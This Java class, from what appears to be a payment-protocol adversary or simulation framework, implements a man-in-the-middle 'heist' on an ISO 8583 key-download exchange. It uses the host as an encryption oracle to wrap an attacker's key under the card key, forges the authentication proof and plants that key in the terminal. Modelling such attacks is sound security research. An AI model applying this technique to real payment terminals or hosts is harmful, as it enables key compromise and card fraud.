package dev.counterfoil.adversary;

import dev.counterfoil.codec.Hex;
import dev.counterfoil.codec.Tlv;
import dev.counterfoil.crypto.CipherKey;
import dev.counterfoil.protocol.iso8583.IsoMessage;
import dev.counterfoil.protocol.iso8583.KeyDownload;
import dev.counterfoil.protocol.iso8583.ResponseCodes;
import java.util.Arrays;
import java.util.List;
import java.util.Objects;
import org.jspecify.annotations.Nullable;

/**
 * The host enciphers what stands in R2 under the card key. The thief holds the authentication message back and asks
 * three times: for the left half of his key; with that pair of number and cipher as R1 and C1, for the right half; with
 * that pair, for the true R2. He then has the proof that the terminal waits for, and his own key under the card key.
 */
final class PlantHeist implements Heist {
    private static final int HALF_BYTES = 8;

    private enum State {
        WAITING,
        LEFT,
        RIGHT,
        PROOF,
        KEY,
        RESULT,
        OVER
    }

    private final CipherKey key;
    private final byte[] left;
    private final byte[] right;
    private State state = State.WAITING;
    private @Nullable IsoMessage held;
    private byte[] leftUnderCardKey = {};
    private byte[] rightUnderCardKey = {};

    PlantHeist(CipherKey key) {
        this.key = key;
        byte[] clear = key.clear();
        left = Arrays.copyOf(clear, HALF_BYTES);
        right = Arrays.copyOfRange(clear, HALF_BYTES, 2 * HALF_BYTES);
    }

    @Override
    public boolean fromTerminal(IsoMessage message, Reach reach) {
        if (state == State.WAITING && Heist.authenticates(message)) {
            held = message;
            state = State.LEFT;
            reach.askHost(Heist.with(message, Tlv.of(KeyDownload.R2, left)));
            return true;
        } else if (state == State.KEY && Heist.isStep(message, '2')) {
            state = State.RESULT;
            reach.answerTerminal(delivery(answerTo(message)));
            return true;
        } else if (state == State.RESULT && Heist.isStep(message, '3')) {
            state = State.OVER;
            concluded(message, reach);
            return true;
        }
        return false;
    }

    @Override
    public boolean fromHost(IsoMessage answer, Reach reach) {
        IsoMessage message = held;
        boolean mine = state == State.LEFT || state == State.RIGHT || state == State.PROOF;
        if (!mine || message == null || !Heist.isStep(answer, '1')) {
            return false;
        }
        reach.answered(answer);
        byte[] cipher = ResponseCodes.approved(answer.text(39)) ? KeyDownload.value(answer, KeyDownload.C2) : null;
        if (cipher == null) {
            state = State.OVER;
            return false;
        }
        switch (state) {
            case LEFT -> {
                leftUnderCardKey = cipher;
                state = State.RIGHT;
                reach.askHost(asking(message, left, cipher, right));
            }
            case RIGHT -> {
                rightUnderCardKey = cipher;
                state = State.PROOF;
                byte[] trueR2 = Objects.requireNonNull(KeyDownload.value(message, KeyDownload.R2));
                reach.askHost(asking(message, right, cipher, trueR2));
            }
            default -> proved(answer, reach);
        }
        return true;
    }

    /** The host's own proof goes to the terminal; in the short flow his key stands beside it. */
    private void proved(IsoMessage answer, Reach reach) {
        boolean delivers = KeyDownload.value(answer, KeyDownload.WRAPPED_KEY) != null;
        state = delivers ? State.RESULT : State.KEY;
        reach.answerTerminal(delivers ? delivery(answer) : answer);
    }

    private void concluded(IsoMessage result, Reach reach) {
        byte[] code = KeyDownload.value(result, KeyDownload.RESULT_CODE);
        if (code != null && code.length == 1 && code[0] == 0) {
            reach.planted(key);
        }
        reach.answerTerminal(answerTo(result));
    }

    private static IsoMessage asking(IsoMessage message, byte[] r1, byte[] c1, byte[] r2) {
        return Heist.with(message, Tlv.of(KeyDownload.R1, r1), Tlv.of(KeyDownload.C1, c1), Tlv.of(KeyDownload.R2, r2));
    }

    private IsoMessage delivery(IsoMessage answer) {
        byte[] wrapped = Arrays.copyOf(leftUnderCardKey, 2 * HALF_BYTES);
        System.arraycopy(rightUnderCardKey, 0, wrapped, HALF_BYTES, HALF_BYTES);
        return Heist.with(
                answer,
                Tlv.of(KeyDownload.WRAPPED_KEY, wrapped),
                Tlv.of(KeyDownload.CHECK_VALUE, Hex.bytes(key.kcv())),
                Tlv.of(KeyDownload.KEY_INDEX, new byte[1]));
    }

    private static IsoMessage answerTo(IsoMessage request) {
        return IsoMessage.answerTo(request)
                .copy(request, 11, 41, 42, 60)
                .set(12, "120000")
                .set(13, "0101")
                .set(37, "000000000000")
                .set(39, "00")
                .set(
                        62,
                        Tlv.encode(List.of(Tlv.of(
                                KeyDownload.SESSION_ID,
                                Objects.requireNonNull(KeyDownload.value(request, KeyDownload.SESSION_ID))))))
                .build();
    }
}
